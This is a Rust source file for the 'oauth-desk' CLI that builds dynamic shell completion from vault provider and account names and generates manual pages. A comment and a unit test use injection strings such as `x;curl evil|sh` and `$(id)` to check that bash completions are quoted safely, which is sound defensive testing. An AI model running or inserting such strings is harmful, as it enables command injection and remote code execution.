//! Shell completion and manual pages, both from the clap definitions. Completion is clap's
//! dynamic engine: the script a shell loads (`oauth-desk completions SHELL`, or the packaged
//! file) calls `oauth-desk` back with the words typed so far, so that provider names and
//! account labels come from the vault itself. Which arguments name a provider or an account is
//! said here once, by their names in the definitions, not on each command.

use std::ffi::OsStr;
use std::io::Write;
use std::path::Path;
use std::sync::OnceLock;
use std::time::Duration;

use clap::CommandFactory;
use clap_complete::engine::{ArgValueCompleter, CompletionCandidate};
use clap_complete::env::Shells;
use clap_complete::CompleteEnv;
use oauth_desk_core::vault::{Create, OsKeyring, Unlock, Vault};
use oauth_desk_core::{providers, vault, Error, Result};

use crate::args::Cli;

/// The variable the scripts set when they call back; an unusual name, so that nobody's
/// environment sets it by chance.
const VAR: &str = "OAUTH_DESK_COMPLETE";

/// The installed command the scripts call back (the front, which hands over to this one).
const BIN: &str = "oauth-desk";

/// Commands whose NAME is a new provider's, which no completion can know.
const NEW_NAMES: &[&str] = &["add", "register"];

/// How long Tab waits for the vault's names before offering the rest without them.
const NAMES_TIME_LIMIT: Duration = Duration::from_millis(1500);

/// The shell that called back (clap's engine removes the variable before the completers run).
static SHELL: OnceLock<String> = OnceLock::new();

/// When the shell calls back, completes the line and exits; otherwise returns at once.
pub fn answer_shell() {
    // Only the scripts' call, `oauth-desk -- WORDS...`: a variable left exported by mistake
    // must not turn every run of the command into a completion.
    if std::env::args_os().nth(1).as_deref() != Some(OsStr::new("--")) {
        return;
    }
    let _ = SHELL.set(std::env::var(VAR).unwrap_or_default());
    CompleteEnv::with_factory(command)
        .var(VAR)
        .bin(BIN)
        .completer(BIN)
        .complete();
}

/// The command line's definition, with the vault's names as the values of the arguments that
/// take a provider or an account.
pub fn command() -> clap::Command {
    with_vault_names(Cli::command())
}

fn with_vault_names(cmd: clap::Command) -> clap::Command {
    let new_names = NEW_NAMES.contains(&cmd.get_name());
    let mut cmd = cmd.mut_args(|arg| match arg.get_id().as_str() {
        "name" if arg.is_positional() && !new_names => {
            arg.add(ArgValueCompleter::new(provider_names))
        }
        "provider" => arg.add(ArgValueCompleter::new(provider_names)),
        "account" => arg.add(ArgValueCompleter::new(account_labels)),
        _ => arg,
    });
    let names: Vec<String> = cmd
        .get_subcommands()
        .map(|s| s.get_name().to_owned())
        .collect();
    for name in names {
        cmd = cmd.mut_subcommand(name, with_vault_names);
    }
    cmd
}

/// The vault named by OAUTH_DESK_VAULT or the default, opened through the keyring only (never
/// a passphrase: a key derivation on every Tab) and given up after a moment (a keyring that
/// does not answer, a re-key holding the vault): a completion never asks, never waits long,
/// and says nothing when it cannot look.
fn vault_names(pick: fn(&Vault) -> Result<Vec<String>>) -> Vec<String> {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let names = std::env::var_os("OAUTH_DESK_VAULT")
            .filter(|p| !p.is_empty())
            .map(|p| Ok(p.into()))
            .unwrap_or_else(vault::default_path)
            .and_then(|path| Vault::open(&path, Unlock::Keyring, &OsKeyring, Create::Never))
            .and_then(|v| pick(&v))
            .unwrap_or_default();
        let _ = tx.send(names);
    });
    rx.recv_timeout(NAMES_TIME_LIMIT).unwrap_or_default()
}

fn candidates(names: Vec<String>, current: &OsStr) -> Vec<CompletionCandidate> {
    let current = current.to_string_lossy();
    let bash = SHELL.get().is_some_and(|s| s == "bash");
    // bash puts a candidate on the line as it is: a quote opened there is not part of the name.
    let typed = if bash {
        current.trim_start_matches('\'')
    } else {
        current.as_ref()
    };
    let mut names: Vec<String> = names.into_iter().filter(|n| n.starts_with(typed)).collect();
    names.dedup();
    names
        .into_iter()
        .map(|n| if bash { bash_word(&n) } else { n })
        .map(CompletionCandidate::new)
        .collect()
}

/// `name` as one bash word. bash inserts a completion unquoted, and account labels come from
/// the provider: `x;curl evil|sh` must reach the line as text, not as commands. zsh and fish
/// quote what they insert themselves.
fn bash_word(name: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._@+:,/=-".contains(c);
    if !name.is_empty() && name.chars().all(plain) {
        name.to_owned()
    } else {
        format!("'{}'", name.replace('\'', r"'\''"))
    }
}

fn provider_names(current: &OsStr) -> Vec<CompletionCandidate> {
    let names = vault_names(|v| {
        Ok(providers::list(v)?
            .into_iter()
            .map(|p| p.name.clone())
            .collect())
    });
    candidates(names, current)
}

/// Every account label in the vault (completion sees the value typed, not the provider named
/// before it).
fn account_labels(current: &OsStr) -> Vec<CompletionCandidate> {
    let mut labels = vault_names(|v| {
        Ok(vault::tokens::list(v.conn())?
            .into_iter()
            .map(|t| t.account)
            .collect())
    });
    labels.sort();
    candidates(labels, current)
}

/// `oauth-desk completions SHELL`: the script that registers the callback in that shell.
pub fn script(shell: &str) -> Result<()> {
    let shells = Shells::builtins();
    let completer = shells
        .completer(shell)
        .ok_or_else(|| Error::InvalidInput(format!("no completion for {shell}")))?;
    let mut script = Vec::new();
    completer
        .write_registration(VAR, BIN, BIN, BIN, &mut script)
        .map_err(|e| Error::io("writing the completion script", e))?;
    let mut script = String::from_utf8_lossy(&script).into_owned();
    if shell == "zsh" {
        // Installed as `_oauth-desk` where compinit looks, the file is autoloaded as that
        // function and must complete on its first call; sourced, it registers. (clap's script
        // only registers, so the first Tab in a new shell would offer nothing.)
        let register = "compdef _clap_dynamic_completer_oauth_desk oauth-desk";
        script = script.replace(
            register,
            &format!(
                "if [ \"$funcstack[1]\" = \"_oauth-desk\" ]; then\n    \
                 _clap_dynamic_completer_oauth_desk \"$@\"\nelse\n    {register}\nfi"
            ),
        );
    }
    std::io::stdout()
        .write_all(script.as_bytes())
        .map_err(|e| Error::io("writing the completion script", e))
}

/// A manual page for the command and one for each subcommand, into `dir`.
pub fn man_pages(dir: &Path) -> Result<()> {
    std::fs::create_dir_all(dir).map_err(|e| Error::io("creating the manual's folder", e))?;
    clap_mangen::generate_to(Cli::command(), dir)
        .map_err(|e| Error::io("writing the manual pages", e))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bash_gets_every_name_as_one_inert_word() {
        assert_eq!(bash_word("alice@example.test"), "alice@example.test");
        assert_eq!(bash_word("Test IdP"), "'Test IdP'");
        assert_eq!(bash_word("x;curl evil|sh"), "'x;curl evil|sh'");
        assert_eq!(bash_word("it's"), r"'it'\''s'");
        assert_eq!(bash_word("$(id)"), "'$(id)'");
        assert_eq!(bash_word("*"), "'*'");
    }
}
